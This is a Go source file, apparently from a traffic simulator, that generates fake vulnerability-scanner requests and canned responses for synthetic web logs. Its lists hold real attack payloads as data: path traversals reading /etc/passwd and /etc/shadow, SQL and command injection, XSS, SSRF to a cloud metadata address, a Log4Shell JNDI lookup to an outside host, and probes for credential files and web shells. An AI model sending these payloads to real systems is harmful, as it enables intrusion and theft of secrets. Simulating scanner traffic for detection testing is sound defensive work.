package trafficsim

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// probe is one request a scanner sends and what the estate answers.
type probe struct {
	method, path, query string
	status              int
	bytes               int64
}

// What vulnerability scanners look for on a first pass, by kind. Written for this
// simulator from what such scanners are known to request; none is a rule of any
// detection product. Paths and queries are percent-encoded as a client sends them.
var (
	sensitiveFiles = []string{
		"/.env", "/.env.production", "/.env.bak", "/.git/config", "/.git/HEAD", "/.svn/wc.db", "/.hg/hgrc",
		"/.aws/credentials", "/.ssh/id_rsa", "/config.php.bak", "/wp-config.php~", "/backup.zip", "/site.tar.gz",
		"/db_backup.sql", "/dump.sql.gz", "/.DS_Store", "/.htpasswd", "/server-status", "/phpinfo.php",
		"/info.php", "/actuator/env", "/actuator/heapdump", "/debug/pprof/heap", "/.vscode/sftp.json",
		"/docker-compose.yml", "/config/secrets.yml", "/appsettings.json", "/appsettings.Development.json",
		"/web.config", "/.npmrc", "/storage/logs/laravel.log", "/.terraform/terraform.tfstate", "/id_rsa.pub",
	}
	traversals = []probe{
		{"GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "", 400, 0},
		{"GET", "/images/..%252f..%252f..%252fetc%252fpasswd", "", 404, 0},
		{"GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "", 400, 0},
		{"GET", "/download", "file=..%2F..%2F..%2F..%2Fetc%2Fshadow", 404, 0},
		{"GET", "/api/v1/files", "path=....//....//....//windows/win.ini", 404, 0},
		{"GET", "/assets/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "", 400, 0},
		{"GET", "/index.php", "page=php://filter/convert.base64-encode/resource=config", 404, 0},
	}
	injections = []probe{
		{"GET", "/api/v1/products", "id=1%27%20OR%20%271%27%3D%271", 400, 0},
		{"GET", "/api/v1/search", "q=%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", 400, 0},
		{"GET", "/api/v1/search", "q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E", 200, 0},
		{"GET", "/api/v1/products", "sort=name%3BSELECT%20pg_sleep(10)--", 400, 0},
		{"GET", "/", "url=http%3A%2F%2F169.254.169.254%2Fmetadata%2Finstance%3Fapi-version%3D2021-02-01", 200, 0},
		{"GET", "/api/v1/render", "template=%7B%7B7*7%7D%7D", 404, 0},
		{"GET", "/api/v1/ping", "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", 404, 0},
		{"POST", "/api/v1/search", "q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fx%7D", 405, 0},
		{"GET", "/api/v1/orders", "status=open%22%20AND%20SLEEP(5)%20AND%20%221%22%3D%221", 400, 0},
	}
	adminPanels = []probe{
		{"GET", "/admin/", "", 404, 0}, {"GET", "/administrator/", "", 404, 0}, {"GET", "/phpmyadmin/", "", 404, 0},
		{"GET", "/pma/", "", 404, 0}, {"GET", "/manager/html", "", 404, 0}, {"GET", "/jenkins/script", "", 404, 0},
		{"GET", "/solr/admin/info/system", "", 404, 0}, {"GET", "/console/", "", 404, 0}, {"GET", "/adminer.php", "", 404, 0},
		{"GET", "/_profiler/phpinfo", "", 404, 0}, {"GET", "/owa/auth/logon.aspx", "", 404, 0},
		{"GET", "/remote/login", "", 404, 0}, {"GET", "/dana-na/auth/url_default/welcome.cgi", "", 404, 0},
		{"GET", "/geoserver/web/", "", 404, 0}, {"GET", "/wp-admin/install.php", "", 404, 0},
		{"GET", "/api/v1/admin/users", "", 401, 0}, {"GET", "/swagger-ui/index.html", "", 404, 0},
	}
	webShells = []string{
		"/shell.php", "/cmd.php", "/wso.php", "/c99.php", "/r57.php", "/alfa.php", "/uploads/shell.php",
		"/wp-content/uploads/wp-ver.php", "/images/up.php", "/cmd.jsp", "/shell.aspx", "/xmrlpc.php",
		"/wp-content/plugins/hellopress/wp_filemanager.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	}
	// log4shellUA is the classic JNDI lookup in a header.
	log4shellUA = "${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd24=}"
)

// payloadProbe draws one scanner request.
func payloadProbe(r *rand.Rand) probe {
	switch r.IntN(5) {
	case 0:
		return probe{"GET", pick(r, sensitiveFiles), "", pick(r, []int{404, 404, 404, 403}), 0}
	case 1:
		return pick(r, traversals)
	case 2:
		return pick(r, injections)
	case 3:
		return pick(r, adminPanels)
	default:
		return probe{pick(r, []string{"GET", "GET", "POST"}), pick(r, webShells), "", 404, 0}
	}
}

// Content discovery: words and endings a wordlist scanner combines.
var (
	probeWords = []string{"admin", "backup", "backups", "old", "new", "test", "tmp", "temp", "dev", "staging",
		"private", "internal", "debug", "config", "conf", "db", "database", "sql", "logs", "log", "upload",
		"uploads", "files", "download", "export", "exports", "import", "include", "includes", "lib", "vendor",
		"node_modules", "src", "bin", "cgi-bin", "scripts", "data", "cron", "jobs", "console", "dashboard",
		"panel", "cpanel", "manage", "management", "portal", "secure", "member", "members", "cart",
		"checkout", "invoice", "payment", "payments", "wallet", "graphql", "graphiql", "swagger",
		"openapi", "docs", "api-docs", "metrics", "monitor", "server", "site", "main", "install",
		"setup", "update", "upgrade", "mysql", "redis", "kibana", "grafana", "prometheus", "jenkins",
		"gitlab", "hidden", "secret", "secrets", "keys", "tokens", "sso", "saml", "ldap", "webmail", "ftp",
		"archive", "archives", "beta", "cms", "crm", "erp", "legacy", "mobile", "partner", "partners", "shop",
		"store", "support", "system", "tools", "user", "users", "v1", "v2", "v3", "web", "wp", "www"}
	probeEndings = []string{"", "/", ".php", ".asp", ".aspx", ".jsp", ".bak", ".old", ".zip", ".tar.gz", ".txt",
		".json", ".xml", ".sql", ".conf", ".log", ".html", "~"}
)

// probePaths returns n distinct discovery paths, in a scanner's order: a wordlist
// walked with each ending, then two-level combinations.
func probePaths(r *rand.Rand, n int, prefix string) []string {
	out := make([]string, 0, n)
	seen := make(map[string]bool, n)
	words := append([]string(nil), probeWords...)
	r.Shuffle(len(words), func(i, j int) { words[i], words[j] = words[j], words[i] })
	endings := probeEndings[:between(r, 1, len(probeEndings))]
	for _, e := range endings {
		for _, w := range words {
			if len(out) == n {
				return out
			}
			p := prefix + "/" + w + e
			if !seen[p] {
				seen[p] = true
				out = append(out, p)
			}
		}
	}
	for len(out) < n {
		p := fmt.Sprintf("%s/%s/%s%s", prefix, pick(r, words), pick(r, words), pick(r, probeEndings))
		if !seen[p] {
			seen[p] = true
			out = append(out, p)
		}
	}
	return out
}

// probeStatus is what the estate answers a discovery path: mostly 404, 403 for
// dot-files, a redirect or a page for the odd word that exists.
func probeStatus(r *rand.Rand, path string) int {
	switch {
	case strings.Contains(path, "/."):
		return 403
	case chance(r, 0.02):
		return 301
	case chance(r, 0.01):
		return 200
	}
	return 404
}

// tlsJunk is what nginx logs for a TLS ClientHello sent to its plain HTTP port: the
// handshake bytes, escaped. A few other non-HTTP openings appear too.
func tlsJunk(h uint64) string {
	switch h % 10 {
	case 0:
		return `\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr`
	case 1:
		return "SSH-2.0-Go"
	case 2:
		return `\x00\x00\x00T\xFFSMBr\x00\x00\x00\x00\x18\x01H\x00\x00\x00\x00`
	}
	var b strings.Builder
	b.WriteString(`\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03`)
	for i := range 8 + int(h>>8)%24 {
		fmt.Fprintf(&b, `\x%02X`, byte(h>>(uint(i)%56)^uint64(i)*37))
	}
	return b.String()
}
